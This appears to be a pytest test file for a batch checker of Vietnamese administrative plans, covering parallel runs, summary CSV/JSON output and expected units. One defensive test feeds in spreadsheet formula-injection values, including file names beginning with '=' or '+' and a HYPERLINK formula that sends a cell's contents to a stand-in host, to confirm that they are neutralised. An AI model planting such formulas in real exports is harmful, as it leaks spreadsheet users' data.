"""Batch checks: parallel jobs in input order, a bad file never stops the batch, the summary, expected units."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from conftest import run

from checker import batch
from checker.batch import Job, check_all
from checker.expected import read_units
from checker.summary import validated

ROOT = Path(__file__).resolve().parents[1]
DEFECTS = ROOT / "samples" / "defects"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """Three defect plans, a Word plan, and a file that is not what its name says."""
    inbox = tmp_path / "nop"
    inbox.mkdir()
    for name in ("no-basis.txt", "task-without-unit.txt", "no-deadline.txt"):
        shutil.copy(DEFECTS / name, inbox / name)
    shutil.copy(ROOT / "samples" / "ke-hoach-ttdn-van-ninh-2019.docx", inbox / "van-ninh.docx")
    (inbox / "hong.docx").write_bytes(b"\x00garbage, not a zip")
    return inbox


def test_parallel_jobs_give_the_same_report_in_the_same_order(folder: Path) -> None:
    code1, one, _ = run("check", str(folder), "--format", "json")
    code2, two, err = run("check", str(folder), "--format", "json", "--jobs", "2")
    assert code1 == code2 == 1
    assert "━" not in err  # no progress bar when standard error is not a terminal
    assert json.loads(one) == json.loads(two)
    paths = [Path(d["path"]).name for d in json.loads(two)["documents"]]
    assert paths == ["hong.docx", "no-basis.txt", "no-deadline.txt", "task-without-unit.txt", "van-ninh.docx"]
    assert json.loads(two)["documents"][0]["status"] == "unreadable"


def test_a_document_that_breaks_the_checker_is_reported_and_the_batch_goes_on(folder: Path, monkeypatch) -> None:
    real = batch.check_file

    def flaky(path, *args, **kwargs):
        if path.endswith("no-deadline.txt"):
            raise RuntimeError("boom")
        return real(path, *args, **kwargs)

    monkeypatch.setattr(batch, "check_file", flaky)
    files = sorted(folder.iterdir())
    reports = list(check_all(files, Job(lang="en"), progress=False))
    assert [Path(r.path).name for r in reports] == [f.name for f in files]
    broken = next(r for r in reports if r.path.endswith("no-deadline.txt"))
    assert broken.status == "unreadable" and "checking failed (RuntimeError: boom)" in (broken.error or "")
    assert sum(r.status == "checked" for r in reports) == 3  # hong.docx is unreadable anyway


def test_summary_csv_has_one_validated_row_per_document(folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "tong-hop.csv"
    code, _, _ = run("check", str(folder), "--summary", str(out))
    assert code == 1
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel shows the Vietnamese right
    rows = {Path(r["path"]).name: r for r in csv.DictReader(raw.decode("utf-8-sig").splitlines())}
    assert rows["task-without-unit.txt"] == {
        "path": str(folder / "task-without-unit.txt"), "unit": "Ủy ban nhân dân huyện Vạn Ninh",
        "number_symbol": "", "date": "", "status": "checked", "errors": "1", "warnings": "1", "infos": "0",
        "accepted": "0", "failed_rules": "assigns-tasks;has-own-date", "verdict": "failed", "ocr_confidence": "",
        "signed_by": ""}
    assert rows["van-ninh.docx"]["number_symbol"] == "45/KH-UBND" and rows["van-ninh.docx"]["date"] == "2019-03-15"
    assert rows["hong.docx"]["status"] == "unreadable" and rows["hong.docx"]["verdict"] == "unreadable"


def test_summary_json_and_a_wrong_extension(folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "tong-hop.json"
    run("check", str(folder / "no-basis.txt"), "--summary", str(out))
    [row] = json.loads(out.read_text(encoding="utf-8"))
    assert row["failed_rules"] == "cites-parent;has-own-date" and row["errors"] == 1
    code, _, err = run("check", str(folder / "no-basis.txt"), "--summary", str(tmp_path / "x.xlsx"))
    assert code == 2 and "x.xlsx" in err and not (tmp_path / "x.xlsx").exists()


def test_summary_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    # A file named, or an expected unit written, like a formula would run as one in a spreadsheet: in the CSV
    # such a cell starts with ' (OWASP), which spreadsheet programs show as text; the JSON keeps the value.
    names = ["=1+2.txt", "+SUM(A1).txt", "-2+3.txt", "@SUM(A1).txt", "\tx.txt", "\rx.txt", "ok.txt"]
    for name in names:
        shutil.copy(DEFECTS / "no-basis.txt", tmp_path / name)
    units = tmp_path / "don-vi.txt"
    units.write_text('=HYPERLINK("http://example.invalid/?"&A1;"Bấm")\n', encoding="utf-8")
    with contextlib.chdir(tmp_path):
        for summary in ("tong-hop.csv", "tong-hop.json"):
            code, _, err = run("check", "--expect", str(units), "--summary", summary, "--", *names)
            assert code == 1, err
    text = (tmp_path / "tong-hop.csv").read_bytes().decode("utf-8-sig")  # CR kept
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["path"] for r in rows] == ["'" + n if n != "ok.txt" else n for n in names] + [""]
    assert rows[-1]["unit"] == "'" + units.read_text(encoding="utf-8").strip()
    assert rows[0]["failed_rules"] == "cites-parent;has-own-date"  # other cells as they were
    raw = json.loads((tmp_path / "tong-hop.json").read_text(encoding="utf-8"))
    assert [r["path"] for r in raw] == [*names, None]
    assert raw[-1]["unit"].startswith("=HYPERLINK(")


def test_the_summary_schema_rejects_a_bad_row() -> None:
    from pandera.errors import SchemaError

    good = {"path": "a.txt", "unit": None, "number_symbol": None, "date": "2019-03-15", "status": "checked",
            "errors": 0, "warnings": 0, "infos": 0, "accepted": 0, "failed_rules": "", "verdict": "passed",
            "ocr_confidence": None, "signed_by": None}
    validated([good, {**good, "ocr_confidence": 95.6, "signed_by": "Nguyễn Văn An"}])
    for bad in ({"errors": -1}, {"status": "lost"}, {"date": "15/03/2019"}, {"path": None}, {"ocr_confidence": 120.0}):
        with pytest.raises(SchemaError):
            validated([{**good, **bad}])


def test_expected_units_that_sent_nothing(folder: Path, tmp_path: Path) -> None:
    units = tmp_path / "don-vi.txt"
    units.write_text("# Các đơn vị phải nộp\nUBND huyện Vạn Ninh\n- UBND huyện Ninh Hòa;\n\n", encoding="utf-8")
    assert read_units(units) == ["UBND huyện Vạn Ninh", "UBND huyện Ninh Hòa"]
    summary = tmp_path / "s.json"
    code, out, _ = run("check", str(folder / "van-ninh.docx"), "--expect", str(units), "--summary", str(summary),
                       "--fail-on", "never")
    assert code == 0
    assert "Đơn vị phải nộp: 1/2 đã nộp." in out and "Chưa nộp: UBND huyện Ninh Hòa" in out
    rows = json.loads(summary.read_text(encoding="utf-8"))
    assert rows[-1] == {"path": None, "unit": "UBND huyện Ninh Hòa", "number_symbol": None, "date": None,
                        "status": "missing", "errors": 0, "warnings": 0, "infos": 0, "accepted": 0,
                        "failed_rules": "", "verdict": "missing", "ocr_confidence": None, "signed_by": None}
    code, _, _ = run("check", str(folder / "van-ninh.docx"), "--expect", str(units), "--fail-on", "warning",
                     "--rules", "default")
    assert code == 1  # a unit that sent nothing counts as an error


def test_expect_parent_needs_against() -> None:
    code, _, err = run("check", str(DEFECTS / "no-basis.txt"), "--expect", "parent")
    assert code == 2 and "--against" in err


@pytest.mark.parametrize("fmt", ["html", "markdown"])
def test_expected_units_in_the_reader_reports(folder: Path, tmp_path: Path, fmt: str) -> None:
    units = tmp_path / "don-vi.txt"
    units.write_text("UBND huyện Vạn Ninh\nUBND huyện Ninh Hòa\n", encoding="utf-8")
    _, out, _ = run("check", str(folder / "van-ninh.docx"), "--expect", str(units), "--format", fmt)
    assert "Đơn vị phải nộp (--expect)" in out and "Chưa nộp: UBND huyện Ninh Hòa" in out
